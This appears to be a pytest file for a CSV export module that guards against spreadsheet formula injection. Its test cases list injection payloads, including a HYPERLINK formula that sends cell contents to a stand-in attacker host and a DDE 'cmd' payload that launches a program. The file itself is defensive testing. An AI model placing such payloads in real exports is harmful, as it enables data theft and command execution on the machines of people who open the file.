"""CSV exports: what was written is read again, and no cell is a formula."""

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from portal.core.csvsafe import BOM, csv_rows, safe_cell


def _read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix(BOM), newline=""), strict=True))


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("https://evil.example?"&A1,"x")',
        "+49 123",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\x00=1+1",
        "＝1+1",
        "＋1",
        "－1",
        "＠x",
        " =1+1",
        "\u00a0=1+1",
        "\ufeff=1+1",
        "−1",
        "|calc",
        "%0a=1",
    ],
)
def test_formulas_get_an_apostrophe(value: str) -> None:
    assert safe_cell(value).startswith("'")
    assert "\x00" not in safe_cell(value)


@pytest.mark.parametrize("value", ["Bank", "'schon", "a=b", "3 - 2", "", "ä", "«=»", "(+49)"])
def test_ordinary_words_stay(value: str) -> None:
    assert safe_cell(value) == value


def test_our_own_values_keep_their_kind() -> None:
    values = [
        -5,
        Decimal("-1.50"),
        -0.5,
        True,
        None,
        date(2026, 11, 21),
        datetime(2026, 11, 21, 8, tzinfo=UTC),
    ]
    assert [safe_cell(value) for value in values] == [
        "-5", "-1.50", "-0.5", "true", "", "2026-11-21", "2026-11-21T08:00:00+00:00",
    ]  # fmt: skip


def test_file_is_rfc_4180() -> None:
    text = "".join(csv_rows(["a", "b"], [['x "y"', "1,5"], ["zwei\nZeilen", "€"]]))
    assert text == BOM + 'a,b\r\n"x ""y""","1,5"\r\n"zwei\nZeilen",€\r\n'
    assert "".join(csv_rows(["a"], [], bom=False)) == "a\r\n"


def test_rows_are_read_only_as_the_file_is_sent() -> None:
    taken = 0

    def rows() -> object:
        nonlocal taken
        for number in range(10_000):
            taken = number
            yield [number, "Bank"]

    pieces = csv_rows(["id", "title"], rows())  # type: ignore[arg-type]
    assert taken == 0
    first = next(pieces)
    assert taken < 500
    assert len(_read(first + "".join(pieces))) == 10_001


@given(st.lists(st.lists(st.text(max_size=20), min_size=2, max_size=2), max_size=5))
@settings(max_examples=80, deadline=None)
def test_reading_again_gives_the_guarded_cells(rows: list[list[str]]) -> None:
    storable = [[cell.encode("utf-8", "replace").decode() for cell in row] for row in rows]
    read = _read("".join(csv_rows(["a", "b"], storable)))
    assert read == [["a", "b"], *[[safe_cell(cell) for cell in row] for row in storable]]
    for row in read:
        for cell in row:
            assert cell.lstrip()[:1] not in set("=+-@＝＋－＠") | {"\t", "\r"} or not cell.lstrip()
